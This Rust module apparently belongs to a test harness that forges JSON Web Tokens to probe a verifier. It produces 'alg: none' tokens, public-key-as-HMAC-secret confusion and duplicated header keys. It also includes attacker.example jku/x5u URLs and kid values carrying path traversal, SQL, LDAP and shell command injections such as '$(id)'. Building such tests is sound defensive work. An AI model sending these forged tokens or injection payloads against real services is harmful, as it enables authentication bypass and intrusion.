//! Headers that try to choose how the token is verified.

use serde_json::{Value, json};

use super::forge::{hmac, public_forms, signed, unsigned};
use super::{Named, Target};

const STRANGE_KIDS: [(&str, &str); 16] = [
    ("of nobody", "somebody"),
    ("empty", ""),
    ("a space", " "),
    ("a path", "../../../../../../dev/null"),
    ("an absolute path", "/dev/null"),
    ("a path of this machine", "/proc/self/environ"),
    ("a Windows path", r"C:\Windows\win.ini"),
    ("a file URL", "file:///dev/null"),
    ("a URL", "https://attacker.example/key"),
    ("SQL", "' OR '1'='1"),
    ("SQL that brings a key", "x' UNION SELECT 'AA'--"),
    ("a command", "|/usr/bin/id"),
    ("a command in a shell", "$(id)"),
    ("LDAP", "*)(uid=*"),
    ("a format", "%s%s%n"),
    ("a NUL", "key\0"),
];

pub(super) fn attacks(target: &Target<'_>) -> Vec<Named> {
    let mut attacks = kids(target);
    attacks.extend(algorithms(target));
    attacks.extend(brought_keys(target));
    attacks.extend(extensions(target));
    attacks
}

/// A right signature under another key's name; and, in case the name is used to fetch a key, signatures by what is
/// found there.
fn kids(target: &Target<'_>) -> Vec<Named> {
    let payload = target.claims.to_string();
    let kid = target.key.kid();
    let mut attacks = Vec::new();
    for (name, strange) in STRANGE_KIDS {
        let header = |alg: &str| json!({"typ": "JWT", "alg": alg, "kid": strange}).to_string();
        attacks.push((format!("kid is {name}"), signed(target.key, &header("RS256"), &payload)));
        attacks.push((format!("kid is {name}, nothing as the secret"), hmac(b"", &header("HS256"), &payload)));
        attacks.push((format!("kid is {name}, AA as the secret"), hmac(b"AA", &header("HS256"), &payload)));
    }
    let altered = [
        ("in other letters", kid.to_uppercase()),
        ("with a space behind", format!("{kid} ")),
        ("with a NUL behind", format!("{kid}\0")),
        ("cut", kid.get(..kid.len().saturating_sub(1)).unwrap_or_default().to_owned()),
        ("doubled", format!("{kid}{kid}")),
        ("as a path", format!("./{kid}")),
        ("very long", kid.repeat(200)),
    ];
    for (name, altered) in altered.into_iter().filter(|(_, altered)| altered != kid) {
        let header = json!({"typ": "JWT", "alg": "RS256", "kid": altered}).to_string();
        attacks.push((format!("kid {name}"), signed(target.key, &header, &payload)));
    }
    for strange in [json!(null), json!(1), json!([kid]), json!({ "kid": kid }), json!(true)] {
        let header = json!({"typ": "JWT", "alg": "RS256", "kid": strange}).to_string();
        attacks.push((format!("kid is {strange}"), signed(target.key, &header, &payload)));
    }
    attacks.push(("no kid".to_owned(), signed(target.key, r#"{"typ":"JWT","alg":"RS256"}"#, &payload)));
    attacks
}

fn algorithms(target: &Target<'_>) -> Vec<Named> {
    let payload = target.claims.to_string();
    let kid = target.key.kid();
    let mut attacks = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE", "", " none", "none\0"] {
        let header = json!({"typ": "JWT", "alg": alg, "kid": kid}).to_string();
        attacks.push((format!("alg {alg:?} without a signature"), format!("{}.", unsigned(&header, &payload))));
        attacks.push((format!("alg {alg:?} with a right signature"), signed(target.key, &header, &payload)));
        let bare = json!({ "alg": alg }).to_string();
        attacks.push((format!("alg {alg:?} without kid and signature"), format!("{}.", unsigned(&bare, &payload))));
    }
    for alg in [
        "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "EdDSA", "HS384", "HS512", "rs256", "RS256 ", "RSA1_5",
        "dir",
    ] {
        let header = json!({"typ": "JWT", "alg": alg, "kid": kid}).to_string();
        attacks.push((format!("alg {alg:?} over an RS256 signature"), signed(target.key, &header, &payload)));
    }
    for alg in [json!(null), json!(0), json!(["RS256"]), json!({ "RS256": 1 })] {
        let header = json!({"typ": "JWT", "alg": alg, "kid": kid}).to_string();
        attacks.push((format!("alg is {alg}"), signed(target.key, &header, &payload)));
    }
    attacks.push(("no alg".to_owned(), signed(target.key, &json!({ "kid": kid }).to_string(), &payload)));
    for (name, header) in [
        ("alg twice, none last", format!(r#"{{"alg":"RS256","kid":"{kid}","alg":"none"}}"#)),
        ("alg twice, none first", format!(r#"{{"alg":"none","kid":"{kid}","alg":"RS256"}}"#)),
        ("alg twice by escape", format!(r#"{{"alg":"RS256","kid":"{kid}","\u0061lg":"none"}}"#)),
        ("kid twice", format!(r#"{{"alg":"RS256","kid":"{kid}","kid":"{kid}"}}"#)),
    ] {
        attacks.push((name.to_owned(), signed(target.key, &header, &payload)));
    }
    attacks
}

/// Tokens that a stranger signed and that contain the stranger's key.
fn brought_keys(target: &Target<'_>) -> Vec<Named> {
    let Ok(stranger) = crate::ServiceKey::generate_pem().and_then(|pem| crate::ServiceKey::from_pem(&pem)) else {
        return Vec::new();
    };
    let payload = target.claims.to_string();
    let mut attacks = Vec::new();
    let brought: [(&str, Value); 5] = [
        ("jwk", stranger.public_jwk()),
        ("jku", json!("https://attacker.example/.well-known/jwks.json")),
        ("x5u", json!("https://attacker.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
    ];
    for (name, value) in brought {
        for (whose, kid) in [("the victim's", target.key.kid()), ("the stranger's", stranger.kid())] {
            let mut header = json!({"typ": "JWT", "alg": "RS256", "kid": kid});
            header[name] = value.clone();
            attacks.push((format!("{name} with {whose} kid"), signed(&stranger, &header.to_string(), &payload)));
        }
        let mut header = json!({ "alg": "RS256" });
        header[name] = value.clone();
        attacks.push((format!("{name} without a kid"), signed(&stranger, &header.to_string(), &payload)));
    }
    attacks.push(("a stranger's signature".to_owned(), signed(&stranger, &super::forge::header(target.key), &payload)));
    attacks.push(("a stranger's key".to_owned(), signed(&stranger, &super::forge::header(&stranger), &payload)));
    attacks
}

fn extensions(target: &Target<'_>) -> Vec<Named> {
    let payload = target.claims.to_string();
    let with = |extension: Value| {
        let mut header = json!({"typ": "JWT", "alg": "RS256", "kid": target.key.kid()});
        if let (Some(header), Value::Object(extension)) = (header.as_object_mut(), extension) {
            header.extend(extension);
        }
        signed(target.key, &header.to_string(), &payload)
    };
    vec![
        ("crit names what nobody knows".to_owned(), with(json!({"crit": ["odd"], "odd": 1}))),
        ("crit names exp".to_owned(), with(json!({"crit": ["exp"], "exp": 1}))),
        ("crit is empty".to_owned(), with(json!({"crit": []}))),
        ("crit is null".to_owned(), with(json!({"crit": null}))),
        ("b64 is false".to_owned(), with(json!({"crit": ["b64"], "b64": false}))),
    ]
}

/// The public key used as a shared secret.
pub(super) fn confusions(target: &Target<'_>) -> Vec<Named> {
    let payload = target.claims.to_string();
    let mut attacks = Vec::new();
    for (form, secret) in public_forms(target.key) {
        for alg in ["HS256", "RS256", "HS512"] {
            let header = json!({"typ": "JWT", "alg": alg, "kid": target.key.kid()}).to_string();
            attacks.push((format!("{form} as the secret, {alg}"), hmac(&secret, &header, &payload)));
            let header = json!({"typ": "JWT", "alg": alg}).to_string();
            attacks.push((format!("{form} as the secret, {alg} without kid"), hmac(&secret, &header, &payload)));
        }
    }
    attacks
}
